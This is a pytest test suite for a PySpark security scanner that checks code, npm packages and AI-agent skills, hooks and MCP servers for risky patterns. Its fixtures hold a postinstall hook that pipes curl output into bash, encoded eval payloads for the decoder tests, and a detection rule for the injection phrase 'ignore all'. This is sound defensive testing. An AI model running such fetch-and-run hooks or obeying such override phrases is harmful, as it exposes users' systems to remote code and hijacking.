"""The scan, decoders, paths, context, trust, dependencies, sinks and streams on small frames."""

import base64
import json
import re

import pytest
from pyspark.sql import functions as F

from scanfold import rules as R
from scanfold.functions import globs
from scanfold.functions import text as T
from scanfold.operators import components, decode, deps, js, paths, places, post, report, scan, trace, trust
from scanfold.engine import text_source
from scanfold.sinks import report as sinks
from scanfold.sources import discovery
from scanfold.streaming import watch


def one(spark, column, **values):
    schema = ", ".join(f"{k} {'string' if v is None or isinstance(v, str) else 'double' if isinstance(v, float) else 'long'}" for k, v in values.items()) or "x int"
    return spark.createDataFrame([tuple(values.values()) or (1,)], schema).select(column).first()[0]


RULES = [
    ("R-1", "eval", "high", [r"\beval\s*\("], [], ["js"], [], ["code"], True),
    ("R-2", "ip", "low", [r"\d+\.\d+\.\d+\.\d+"], [r"^127\."], [], [], [], True),
    ("INJECT-1", "ignore", "critical", [r"(?i)ignore\s+all"], [], [], [], ["message"], True),
    ("BAD-1", "empty", "low", [r"x*"], [], [], [], [], True),
    ("BAD-2", "look", "low", [r"(?=x)y"], [], [], [], [], True),
    ("OFF-1", "off", "low", [r"abc"], [], [], [], [], False),
]
SCHEMA = "rule_id string, title string, severity string, patterns array<string>, exclude_patterns array<string>, file_extensions array<string>, file_names array<string>, contexts array<string>, enabled boolean"


@pytest.fixture(scope="module")
def rule_table(spark):
    return spark.createDataFrame(RULES, SCHEMA)


def test_rules_are_rejected_one_by_one(rule_table):
    good, bad = R.compile_rules(rule_table)
    assert [p.rule_id for p in good] == ["INJECT-1", "R-1", "R-2"] and sorted(b[0] for b in bad) == ["BAD-1", "BAD-2"]
    assert [p.rule_id for p in R.compile_rules(rule_table, "message")[0]] == ["INJECT-1", "R-2"]
    with pytest.raises(ValueError):
        R.compile_rules(rule_table, "nonsense")


def test_required_literals():
    assert R.required_literals(r"\bread\w*\s*\(.{0,23}chunk") == (["chunk", "read"], True)
    assert R.required_literals(r"(?i)Ignore\s+ALL") == (["ignore", "all"], False)
    assert R.required_literals(r"a|b") == ([], True)
    assert R.required_literals(r"(?:foo)+bar?") == (["foo", "ba"], True)


def test_scan_positions(spark, rule_table):
    text = "é line\n  eval (a); eval(b)\n127.0.0.1 45.33.97.12 eval("
    files = spark.createDataFrame([(1, "a/x.js", text), (2, "a/x.py", text), (3, "a/r.md", "IGNORE ALL"), (4, "a/n.js", None), (5, "a/e.js", "")], "id int, path string, text string")
    got = scan.findings(files, R.compile_rules(rule_table)[0], "id", "text", "path").collect()
    here = sorted((r.id, r.rule_id, r.match_no, r.byte_offset, r.line, r.col) for r in got)
    want = []
    for i, name in ((1, "js"), (2, "py")):
        for m_no, m in enumerate(re.finditer(r"\beval\s*\(", text)):
            if name == "js":
                pre = text[: m.start()].encode()
                want.append((i, "R-1", m_no, len(pre), pre.count(b"\n") + 1, len(pre) - pre.rfind(b"\n")))
        ip = text.index("45.33")
        pre = text[:ip].encode()
        want.append((i, "R-2", 1, len(pre), 3, len(pre) - pre.rfind(b"\n")))
    want.append((3, "INJECT-1", 0, 0, 1, 1))
    assert here == sorted(want)
    assert {r.rule_id: r.severity for r in got if r.id == 3} == {"INJECT-1": "critical"}
    assert all("\n" not in r.snippet for r in got)


def test_lines_under_the_m_flag(spark):
    rows_ = [("R", "t", "low", [p], [], [], [], [], True) for p in (r"(?m)^b$", r"^b$", r"(?m:^c$)|d$", r"(?im)^B$")]
    patterns, _ = R.compile_rules(spark.createDataFrame(rows_, SCHEMA))
    texts = spark.createDataFrame([(1, "a\nb\nc"), (2, "b"), (3, "b\n"), (4, "b\r\nd"), (5, "d\n")], "i int, t string").withColumn("p", F.lit("x.txt"))
    got = {(r.pattern_no, r.rule_id, r.i, r.matched) for r in scan.matches(texts, [R.Pattern(**{**p.__dict__, "pattern_no": k}) for k, p in enumerate(patterns)], "i", "t", "p").collect()}
    by = {p.pattern: k for k, p in enumerate(patterns)}
    assert {(k, i, m) for k, _, i, m in got} == {
        (by[r"(?m)^b$"], 1, "b"), (by[r"(?m)^b$"], 2, "b"), (by[r"(?m)^b$"], 3, "b"), (by[r"^b$"], 2, "b"), (by[r"(?m:^c$)|d$"], 1, "c"), (by[r"(?m:^c$)|d$"], 4, "d"), (by[r"(?im)^B$"], 1, "b"), (by[r"(?im)^B$"], 2, "b"), (by[r"(?im)^B$"], 3, "b")
    }


def test_places_against_the_text():
    import random

    rnd = random.Random(1)
    for _ in range(200):
        t = "".join(rnd.choice("aé\n🙂x ") for _ in range(rnd.randrange(1, 200)))
        got = list(places.place(re.findall("x+", t), re.split("x+", t)))
        assert len(got) == len(re.findall("x+", t))
        for k, (m, x) in enumerate(zip(re.finditer("x+", t), got)):
            before = t[: m.start()]
            assert x[:7] == (k, m.group(), len(before.encode()), len(t[: m.end()].encode()), before.count("\n") + 1, len(before.split("\n")[-1].encode()) + 1, t[: m.end()].count("\n") + 1)
            assert x[7].strip(".").replace("\\n", "\n") in t and m.group() in x[7]
        assert [x[:4] for x in got] == list(places.place(re.findall("x+", t), re.split("x+", t), None))


def test_a_text_with_many_matches(spark, rule_table):
    """Time in proportion to the text, not to text times matches."""
    import time

    big = spark.createDataFrame([(1, "a/x.py", "1.2.3.4\n" * 400_000)], "id int, path string, text string")
    began = time.monotonic()
    got = scan.matches(big, R.compile_rules(rule_table)[0], "id", "text", "path").agg(F.count("*"), F.max("line"), F.max("byte_offset")).first()
    assert tuple(got) == (400_000, 400_000, 8 * 399_999) and time.monotonic() - began < 60


def test_many_patterns_in_blocks(spark, monkeypatch):
    rows_ = [(f"R-{k}", "t", "low", [f"w{k}x"], [], [], [], [], True) for k in range(25)]
    patterns, bad = R.compile_rules(spark.createDataFrame(rows_, SCHEMA))
    texts = spark.createDataFrame([(1, "w3x w24x", "a.py"), (2, "w0x", "b")], "i int, t string, p string")
    whole = sorted((r.i, r.rule_id) for r in scan.matches(texts, patterns, "i", "t", "p").collect())
    monkeypatch.setattr(scan, "BLOCK", 4)
    assert not bad and sorted((r.i, r.rule_id) for r in scan.matches(texts, patterns, "i", "t", "p").collect()) == whole == [(1, "R-24"), (1, "R-3"), (2, "R-0")]


def test_files_too_large_are_reported(spark, rule_table):
    files = spark.createDataFrame([(1, "a/x.py", "1.2.3.4"), (2, "b", "1.2.3.4 " * 9), (3, "c", None), (4, "d", "")], "id int, path string, text string")
    got = {r.id: (r.content_hash is not None, r.n_bytes, r.scanned) for r in scan.results(files, "id", "text", "path", max_bytes=20).collect()}
    assert got == {1: (True, 7, True), 2: (False, 72, False), 3: (True, 0, True), 4: (True, 0, True)}
    assert [r.id for r in scan.matches(files, R.compile_rules(rule_table)[0], "id", "text", "path", max_bytes=20).collect()] == [1]


def test_snippet_keeps_characters_whole(spark):
    text = "é" * 60 + "HIT" + "漢" * 60
    a = text.index("HIT")
    start, end = len(text[:a].encode()), len(text[:a].encode()) + 3
    got = one(spark, scan.snippet(F.col("t"), F.col("a"), F.col("b")), t=text, a=start, b=end)
    assert got == "..." + "é" * 25 + "HIT" + "漢" * 17 + "..."
    assert one(spark, scan.snippet(F.col("t"), F.col("a"), F.col("b")), t="x\ny", a=0, b=1) == "x\\ny"


def test_scan_is_the_same_for_any_partitioning(spark, rule_table):
    files = spark.range(40).select("id", F.lit("a.js").alias("path"), F.concat(F.lit("eval("), F.col("id"), F.lit(") 1.2.3.4")).alias("text"))
    pats = R.compile_rules(rule_table)[0]
    runs = [sorted(map(tuple, scan.matches(files.repartition(n), pats, "id", "text", "path").select("id", "rule_id", "byte_offset").collect())) for n in (1, 7)]
    assert runs[0] == runs[1] and len(runs[0]) == 80


def test_text_functions(spark):
    assert one(spark, T.entropy(F.col("t")), t="aB3$kL9@mN2#pQ5") > 3.5
    assert one(spark, T.entropy(F.col("t")), t="aaaaaaaaaa") < 1.0
    assert one(spark, T.entropy(F.col("t")), t="") == 0.0
    assert [one(spark, T.extension(F.col("p")), p=p) for p in ("a/b.TXT", "a/.env", "Dockerfile", "x.tar.gz")] == ["txt", "", "", "gz"]
    assert [one(spark, T.normal_path(F.col("p")), p=p) for p in ("/a/./b/../c", "a\\b\\c", "../x", "/..")] == ["/a/c", "a/b/c", "x", "/"]
    assert one(spark, T.truncate(F.col("t"), 3), t="abcdef") == "abc..."
    assert [one(spark, T.severity_rank(F.col("s")), s=s) for s in ("Critical", "med", " low ", "odd", None)] == [4, 2, 1, 2, None]
    assert one(spark, T.severity_name(F.lit(None).cast("int"))) is None
    assert one(spark, T.relative_path(F.col("p"), F.col("r")), p="/a/b/c", r="/a/") == "b/c"


def test_globs_cross_folders():
    hit = lambda g, p: re.match(globs.any_glob([g]), p) is not None
    assert hit("*.test.js", "a/b/x.test.js") and hit("tests/**", "tests/a/b") and not hit("tests/**", "x/tests/a")
    assert hit("**/LICENSE*", "a/LICENSE.md") and hit("**/LICENSE*", "LICENSE") and hit("[ab].{js,ts}", "a.ts") and not hit("[!ab].js", "a.js")


def test_paths(spark):
    assert one(spark, paths.should_skip(F.col("p")), p="/project/CHANGELOG.js") is False
    assert one(spark, paths.should_skip(F.col("p")), p="/project/CHANGELOG.md") is True
    scope = lambda p, w=None: one(spark, paths.install_scope(F.col("p"), w), p=p)
    assert [scope(p) for p in ("src/a.js", "tests/a.js", "a/x.test.js", "SKILL.md", "examples/SKILL.md", "sub/SKILL.md")] == ["installed", "dev_only", "dev_only", "installed", "dev_only", "installed"]
    ships = paths.npm_whitelist({"files": ["lib"], "main": "index.js"})
    assert [scope(p, ships) for p in ("lib/a.js", "index.js", "src/a.js", "README.md")] == ["installed", "installed", "dev_only", "installed"]
    assert paths.npm_whitelist({}) is None and paths.npm_whitelist({"files": []}) is None


def test_components(spark):
    files = spark.createDataFrame([("r/SKILL.md", "# My skill\n"), ("r/package.json", '{"name": "pkg"}'), ("r/a/b/x.js", ""), ("r/s/package.json", '{"name": "m", "dependencies": {"@modelcontextprotocol/sdk": "1"}}'), ("z/x", None)], "path string, text string")
    c = components.detect(files, "path", "text")
    assert sorted(map(tuple, c.select("root", "kind", "name").collect())) == [("r", "skill", "My skill"), ("r/s", "mcp_server", "m")]
    near = {r.path: r.component_root for r in components.assign(files, "path", c).collect()}
    assert near == {"r/SKILL.md": "r", "r/package.json": "r", "r/a/b/x.js": "r", "r/s/package.json": "r/s", "z/x": None}


def test_decoders(spark):
    layer = lambda t: [(r.encoding, r.byte_offset, r.decoded) for r in decode.layer(spark.createDataFrame([(1, t)], "id int, t string"), "id", "t").collect()]
    assert layer('é = "ZXZhbCgnbWFsaWNpb3VzIGNvZGUnKQ=="') == [("base64", 6, "eval('malicious code')")]
    assert layer("String.fromCharCode(72, 101, 108, 108, 111)") == [("charcode", 0, "Hello")]
    assert layer(r"\u0048\u0065\u006c\u006c\u006f") == [("unicode", 0, "Hello")]
    assert layer("'" + "eval(secret_code)".encode().hex() + "'") == [("hex", 1, "eval(secret_code)")]
    assert layer("%65%76%61%6c%28%31%29") == [("url-encoded", 0, "eval(1)")]
    assert layer("nothing here") == [] and layer(None) == [] and layer("'" + "ff" * 12 + "'") == []
    inner = "run('" + "eval(secret_code)".encode().hex() + "')"
    text = f"atob('{base64.b64encode(inner.encode()).decode()}')"
    got = decode.decode_layers(spark.createDataFrame([(1, text)], "id int, t string"), "id", "t").collect()
    assert sorted((r.depth, r.encoding, r.decoded) for r in got) == [(0, "base64", inner), (1, "hex", "eval(secret_code)")]


def test_trace(spark):
    files = spark.createDataFrame(
        [("/r/SKILL.md", "read docs/a.md and `./b.sh`, see https://x.y/z.md"), ("/r/docs/a.md", "[c](c.md) [up](../b.sh) [d](#x.md)"), ("/r/docs/c.md", "`d.md`"), ("/r/docs/d.md", "`e.md`"), ("/r/docs/e.md", None), ("/r/b.sh", "run docs/e.md")],
        "path string, text string",
    ).withColumn("root", F.lit("/r/"))
    e = trace.references(files, "path", "text", "root")
    assert ("/r/docs/a.md", "/r/b.sh") in set(map(tuple, e.collect()))
    starts = files.where(trace.is_instruction(F.col("path"))).select(F.col("path").alias("instruction"))
    got = {r.path: r.depth for r in trace.reachable(e, starts).collect()}
    assert got == {"/r/docs/a.md": 1, "/r/b.sh": 1, "/r/docs/c.md": 2, "/r/docs/d.md": 3}
    assert {r.path: r.referenced_by for r in trace.referenced_by(trace.reachable(e, starts)).collect()}["/r/b.sh"] == "SKILL.md"


def test_regex_literal(spark):
    # slashes are used up in pairs, one after a digit or a closing bracket divides, and three characters make a pattern
    yes = ['a / b / c', 'x = /abc/', 'f()/abc/def/', 'a//b/cde/', '/a\\/b/']
    no = ['x = /ab/', '1/abc/ 2', '//abc/', '/ab', 'https://x.y/z', '/a/bcd/', '/a/b/cdef', ')/abc', '']
    for line in yes + no:
        assert one(spark, post.in_string_literal(F.col("t")), t=line) == (line in yes), line


def test_adjust_order(spark):
    rows = [("R-1", "a/x.py", "curl https://brew.sh/x", None, False, "installed", 0, 4), ("INJECT-1", "a/guard.py", "text", None, False, "installed", 1, 4), ("R-1", "a/x.md", "t", None, False, "installed", 0, 3), ("INJECT-1", "t/x.py", "t", None, False, "dev_only", 1, 4), ("R-1", "t/x.py", "t", None, False, "dev_only", 0, 4), ("R-1", "t/x.md", "t", None, True, "dev_only", 0, 4)]
    f = spark.createDataFrame(rows, "rule_id string, path string, snippet string, suppressed_by string, reachable boolean, scope string, injections int, rank int").withColumn("id", F.monotonically_increasing_id())
    f = f.join(post.trusted_domain(f, "id", "snippet"), "id", "left")
    got = [(r.rank, r.reason) for r in post.adjust(f, F.col("rule_id").startswith("INJECT-")).orderBy("id").collect()]
    assert got == [(0, "trusted_domain"), (1, "injection_context"), (1, "unreferenced_doc"), (4, ""), (1, "install_scope"), (4, "")]


def test_report(spark):
    f = spark.createDataFrame([("a", 4, None), ("a", 3, "skill:x"), ("b", 0, None), ("c", 4, "k")], "g string, rank int, suppressed_by string")
    got = {r.g: (r.risk_score, r.active_risk_score, r.verdict, r.gate, r.exit_code, r.max_severity) for r in report.summary(f, ["g"]).collect()}
    assert got == {"a": (55, 40, "DANGEROUS", "blocked", 1, "critical"), "b": (0, 0, "CLEAN", "allowed", 0, "info"), "c": (40, 0, "CLEAN", "allowed", 0, "critical")}
    assert report.summary(f.limit(0), ["g"]).count() == 0


def test_trust(spark):
    t = spark.createDataFrame([("skill:a", "h1", "accepted", ["R-1"]), ("skill:b", "h2", "full", []), ("skill:q", "h3", "quarantined", [])], "key string, component_hash string, level string, accepted_rules array<string>")
    f = spark.createDataFrame([("skill:a", "h1", "R-1"), ("skill:a", "h1", "R-2"), ("skill:a", "old", "R-1"), ("skill:b", "h2", "R-9"), (None, None, "R-1")], "key string, h string, rule string")
    got = trust.apply_trust(f, t, "key", "h", "rule").select("key", "h", "rule", "suppressed_by").collect()
    assert {tuple(r)[:3] for r in got if r.suppressed_by} == {("skill:a", "h1", "R-1"), ("skill:b", "h2", "R-9")}
    files = spark.createDataFrame([("skill:q", "z"), ("skill:q", "b"), ("skill:a", "a")], "key string, path string")
    assert [(r.key, r.path, r.rule_id) for r in trust.quarantine(files, t, "key", "path").collect()] == [("skill:q", "b", "TRUST-Q01")]
    assert trust.revoke(t, "b").count() == 2 and trust.upsert(t, t.where("key = 'skill:a'")).count() == 3


def test_deps(spark):
    m = spark.createDataFrame([(1, json.dumps({"dependencies": {"event-x": "^1.2.3", "loadsh": "1"}, "devDependencies": {"left": "~2"}, "scripts": {"postinstall": "curl http://x | bash", "test": "node -e 1"}})), (2, "no json"), (3, None)], "id int, text string")
    d = deps.dependencies(m, "id", "text")
    assert sorted((r.name, r.section) for r in d.collect()) == [("event-x", "dependencies"), ("left", "devDependencies"), ("loadsh", "dependencies")]
    known = spark.createDataFrame([("event-x", ["1.2.3"], "w"), ("left", [], "w")], "name string, versions array<string>, reason string")
    assert sorted(r.name for r in deps.malicious(d, known).collect()) == ["event-x", "left"]
    assert [(r.id, r.hook) for r in deps.install_scripts(m, "id", "text").collect()] == [(1, "postinstall")]
    popular = spark.createDataFrame([(x,) for x in ("lodash", "express", "cross-env", "axios")], "name string")
    names = spark.createDataFrame([(x,) for x in ("loadsh", "expresss", "lodash-js", "crossenv", "cross_env", "axois", "lodash", "unlike")], "name string")
    got = {r.name: (r.imitates, r.technique) for r in deps.typosquats(names, popular).collect()}
    assert got == {"loadsh": ("lodash", "distance"), "expresss": ("express", "doubled"), "lodash-js": ("lodash", "suffix"), "crossenv": ("cross-env", "separator"), "cross_env": ("cross-env", "separator"), "axois": ("axios", "distance")}


def test_js():
    kinds = lambda s: [r[0] for r in js.detect(s)]
    assert kinds("window['eval'](x)") == ["AST-EXEC-001"] * 2 and kinds("globalThis['ev' + 'al']") == ["AST-EXEC-003"]
    assert kinds(r"self['\x65val']") == ["AST-EXEC-004"] and kinds("(0, eval)('x')") == ["AST-EXEC-005"]
    assert kinds("const e = eval;\ne('x')") == ["AST-EXEC-002"] and kinds("const a = eval; const b = a; b(1)") == ["AST-EXEC-002"]
    assert kinds("const { exec: run } = require('child_process')") == ["AST-SHELL-001"] and kinds("import { exec as r } from 'node:child_process'") == ["AST-SHELL-001"]
    assert kinds("const { exec } = require('child_process')") == [] and kinds("// window['eval'](x)\n'window[\"eval\"]'") == [] and kinds("foo.e(1); eval(1)") == []
    assert js.unescape(r"\x65v\u{61}l\n")[0] == "eval\n"


SCRIPTS = [
    ("window['eval'](x)", ["AST-EXEC-001"] * 2), ("globalThis['ev' + 'al']", ["AST-EXEC-003"]), ("self['\\x65val']", ["AST-EXEC-004"]), ("(0, eval)(x)", ["AST-EXEC-005"]), ("const { exec: run } = require('child_process')", ["AST-SHELL-001"]),
    ("import { exec as run } from 'node:child_process'", ["AST-SHELL-001"]), ("const e = eval; e(x)", ["AST-EXEC-002"]), ("const a = eval, b = a\nb(1)", ["AST-EXEC-002"]), ("run = eval; run(1)", []), ("e(x); const e = eval", []),
    ("function f(){ const run = eval; run(1) } run(2)", ["AST-EXEC-002"]), ("const run = eval; function f(){ const run = 5; run(1) } run(2)", ["AST-EXEC-002"]), ("if (x) { var g = eval } g(1)", ["AST-EXEC-002"]),
    ("class A { run() { const q = Function; q('x') } }\nq(1)", ["AST-EXEC-002"]), ("const f = (a) => { const z = eval; z(a) }; z(1)", ["AST-EXEC-002"]), ("function t(a): void { const h = eval; h(1) } h(2)", ["AST-EXEC-002"]),
    ("const e: any = eval; e(x)", ["AST-EXEC-002"]), ("`${window['eval'](x)}`", ["AST-EXEC-001"] * 2), ("obj = { e(x) { return 1 } }", []), ("const s = 'window[\\'eval\\']'", []), ("// window['eval']", []),
]


@pytest.mark.parametrize("source,want", SCRIPTS)
def test_scripts(source, want):
    assert [x[0] for x in js.detect(source)] == want


def test_scripts_long_alias_chain():
    chain = "".join(f"const a{k + 1} = a{k};" for k in range(20))
    assert len(js.detect("const a0 = eval;" + chain + "a8(1); a20(1)")) == 1


def test_script_rules_are_data(spark, tmp_path):
    rules = {
        "dangerous_lists": {"globals": ["top"], "functions": ["boom"], "modules": {"m": ["x"]}},
        "detectors": [{"id": "A-1", "strategy": "computed_access", "title": "t", "severity": "low", "enabled": True}, {"id": "A-2", "strategy": "comma_operator", "title": "t", "severity": "low", "enabled": False}, {"id": "A-3", "strategy": "new_one", "title": "t", "severity": "low"}],
    }
    (tmp_path / "r.json").write_text(json.dumps(rules))
    mine = js.ScriptDetector(js.load_script_rules(str(tmp_path / "r.json")))
    files = spark.createDataFrame([(1, "top['boom']; (0, boom)(1); window['eval']", "a.js"), (2, "x = eval\nx('1')", "b.py"), (3, None, "c.js"), (4, "top['boom']" + " " * 99, "d.js")], "i int, t string, p string")
    assert [tuple(r) for r in js.ast_findings(files, "i", "t", "p", (mine,), max_bytes=80).collect()] == [(1, "A-1", "low", 0, 1, "boom")]

    class Python:
        extensions = ("py",)

        def __call__(self, source):
            return [("P-1", "info", source.index("eval"), "eval")]

    got = js.ast_findings(files, "i", "t", "p", (js.ScriptDetector(), Python())).collect()
    assert sorted((r.i, r.rule_id) for r in got) == [(1, "AST-EXEC-001"), (2, "P-1")]


def test_adapters(spark):
    names = [".claude/plugins/a/b/c/d.js", ".claude/plugins/x.png", ".claude/settings.json", ".claude/hooks/h.rb", ".claude/hooks/s/h", ".claude/hooks/s/t/h", ".claude/CLAUDE.md", "CLAUDE.md", ".claude.json", ".claude/commands/review.md", ".claude/skills/re/SKILL.md", ".claude/skills/a/b/c/d.md", ".claude/skills/a/b/c/d/e.md", "other.js"]
    files = spark.createDataFrame([(f"/home/u/{n}",) for n in [*names, names[0]]] + [(None,)], "path string")
    a = discovery.create_adapter("agent", "/home/u")
    got = {r.path.removeprefix("/home/u/"): (r.kind, r.name) for r in a.discover(files).collect()}
    assert a.discover(files).count() == len(got) and got == {
        ".claude/plugins/a/b/c/d.js": ("plugin", "d.js"), ".claude/settings.json": ("mcp_server", "settings.json (servers)"), ".claude/hooks/h.rb": ("hook", "h.rb"), ".claude/hooks/s/h": ("hook", "h"), ".claude/CLAUDE.md": ("prompt", "CLAUDE.md (global)"), "CLAUDE.md": ("prompt", "CLAUDE.md (home)"),
        ".claude.json": ("mcp_server", ".claude.json"), ".claude/commands/review.md": ("prompt", "command: review"), ".claude/skills/re/SKILL.md": ("prompt", "skill: re"), ".claude/skills/a/b/c/d.md": ("prompt", "skill: d"),
    }
    assert discovery.detect_platform(files, "/home/u") == "agent" and discovery.detect_platform(files, "/srv") is None
    assert isinstance(discovery.create_adapter("unknown"), discovery.GenericAdapter)
    assert {r.path for r in a.discover_at(files, "/home/u/other.js").collect()} == {"/home/u/other.js"}
    assert a.discover_at(files, "/home/u/.claude/hooks").count() == 0 and a.discover_at(files, "/home/u/.claude/hooks/h.rb").first().kind == "other"


def test_text_source(spark):
    assert [tuple(r) for r in text_source(spark, "eval(x)", "js").collect()] == [("<stdin>.js", "eval(x)")]
    with pytest.raises(ValueError):
        text_source(spark, " \n")


def test_exports():
    import scanfold

    assert all(getattr(scanfold, n) for n in scanfold.__all__)
    with pytest.raises(AttributeError):
        scanfold.nothing


def test_stores(spark, tmp_path):
    at = "file:" + str(tmp_path / "trust")
    assert trust.load_trust(spark, at).count() == 0
    one_ = spark.createDataFrame([("skill:b", "h", "full", []), ("skill:a", "h", "accepted", ["R"])], trust.TRUST)
    trust.save(one_, at)
    trust.save(trust.revoke(trust.upsert(trust.load_trust(spark, at), spark.createDataFrame([("skill:c", "h", "full", [])], trust.TRUST)), "b"), at)
    assert [r.key for r in trust.load_trust(spark, at).collect()] == ["skill:a", "skill:c"]
    c = "file:" + str(tmp_path / "cache")
    put = lambda *rows: trust.cache_put(spark.createDataFrame(rows, "content_hash string, profile_hash string, cached_at string, result string").withColumn("cached_at", F.col("cached_at").cast("timestamp")), c)
    put(("h1", "p", "2024-01-01", "old"), (None, "p", "2024-01-01", "x"))
    put(("h1", "p", "2024-01-02", "newer"), ("h2", "p", "2024-01-01", "x" * 2048))
    assert {(r.content_hash, r.result[:5]) for r in trust.cache_entries(spark, c).collect()} == {("h1", "newer"), ("h2", "xxxxx")}
    assert tuple(trust.cache_stats(spark, c).first()) == (2, 2053, "2.0 KB")
    trust.cache_clear(spark, c)
    assert tuple(trust.cache_stats(spark, c).first()) == (0, 0, "0 B")


def test_domain_files(spark, tmp_path):
    (tmp_path / "a.json").write_text(json.dumps({"domains": [{"domain": "a.test", "purpose": "x"}, {"domain": "b.test", "path_prefix": "/ok", "purpose": "y"}]}))
    (tmp_path / "b.json").write_text('{"domains": []}')
    assert post.load_domains(spark, str(tmp_path / "a.json"), str(tmp_path / "b.json")) == [("a.test", None, "x"), ("b.test", "/ok", "y")]


def test_terminal_by_component(spark):
    f = spark.createDataFrame([("a", "f1", "R-1", "t", 4, 3, None), ("a", "f2", "R-2", "t", 1, 1, None), (None, "g", "R-1", "t", 2, 1, None), ("z", "q", "R-1", "t", 3, 1, "skill:z")], "component string, path string, rule_id string, title string, rank int, start_line int, suppressed_by string")
    lines = sinks.terminal(f, "DANGEROUS").split("\n")
    assert lines[:2] == ["-- a --", "   Files: 2 | Findings: 2 | Risk: CRITICAL"] and "-- Other files --" in lines and "-- z --" not in lines
    assert lines[-2:] == ["1 suppressed", "Verdict: DANGEROUS"]


def test_sinks(spark):
    f = spark.createDataFrame([("R-1", "t", "d", "a/x.js", 3, None, 4, "s", None), ("R-1", "t2", "d", "a/y.js", 1, 2, 1, None, "k")], "rule_id string, title string, description string, path string, start_line int, start_column int, rank int, snippet string, suppressed_by string")
    doc = json.loads(sinks.render(f, "sarif", {}))
    assert doc["version"] == "2.1.0" and len(doc["runs"][0]["results"]) == 2 and doc["runs"][0]["tool"]["driver"]["rules"][0]["shortDescription"]["text"] == "t"
    assert "R-1" in sinks.render(f, "md", {"files": 2}) and "1 suppressed" in sinks.render(f, "cli", {"verdict": "CLEAN"})
    assert json.loads(sinks.render(f, "json", {"x": 1}))["summary"] == {"x": 1}
    with pytest.raises(ValueError):
        sinks.render(f, "pdf", {})


def test_rule_files(spark, tmp_path):
    (tmp_path / "a.json").write_text(json.dumps({"category": "c", "rules": [{"id": "X-1", "title": "t", "severity": "High", "pattern": "abc", "metadata": {"author": "Me", "tags": ["T"]}, "test_cases": {"should_match": ["xabc"], "should_not_match": ["abc!"]}}]}))
    r = R.load_rules(spark, str(tmp_path))
    assert r.columns == R.RULE_COLUMNS and [(x.rule_id, x.severity, x.patterns) for x in r.collect()] == [("X-1", "high", ["abc"])]
    assert sorted((x.text, x.passed) for x in R.self_tests(r).collect()) == [("abc!", False), ("xabc", True)]
    assert R.select_rules(r, author="me", tag="t").count() == 1 and R.select_rules(r, source="official").count() == 0


def test_watch(spark, rule_table, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.js").write_text("eval(1)")
    (folder / "b.js").write_bytes(b"\xff\xfeeval(")
    got = []
    watch.scan_stream(watch.once_per_content(watch.watch_files(spark, str(folder))), R.compile_rules(rule_table)[0], lambda df, no: got.extend(df.collect()), every=None).awaitTermination()
    assert [(r.rule_id, r.line) for r in got] == [("R-1", 1)]
    assert watch.read_files(spark, str(folder)).count() == 1


def test_alert_state(spark, tmp_path):
    src = spark.createDataFrame([("c1", "A", 1), ("c1", "B", 5), ("c2", "C", 2)], "ch string, alert string, s long").withColumn("ts", F.timestamp_seconds("s"))
    src.write.parquet(str(tmp_path / "m"))
    stream = spark.readStream.schema(src.schema).parquet(str(tmp_path / "m"))
    out = watch.run_to_table(watch.alert_state(stream, "ch", "ts"), "alert-test", "update")
    assert sorted((r.channel, r.alert, r.state) for r in out.collect()) == [("c1", "B", "new"), ("c2", "C", "new")]
    late = watch.latest_alerts(src, "ch", "ts", F.timestamp_seconds(F.lit(64)), 60)
    assert [(r.ch, r.alert) for r in late.collect()] == [("c1", "B")]


def test_alerts_expire_in_the_query(spark, tmp_path):
    from scanfold.plans import context

    rows = [(1, 0, "old"), (2, 3599, "gone"), (3, 3600, "edge"), (4, 7100, "new"), (4, 10, "before"), (5, 7200, "last")]
    e = spark.createDataFrame(rows, "user_id long, s long, event_type string").select("user_id", F.timestamp_seconds("s").alias("ts"), "event_type")
    e.write.parquet(str(tmp_path / "events.parquet"))
    got = context.message_alerts_live(spark, str(tmp_path)).collect()
    assert sorted((r.user_id, r.alert) for r in got) == [(3, "edge"), (4, "new"), (5, "last")]
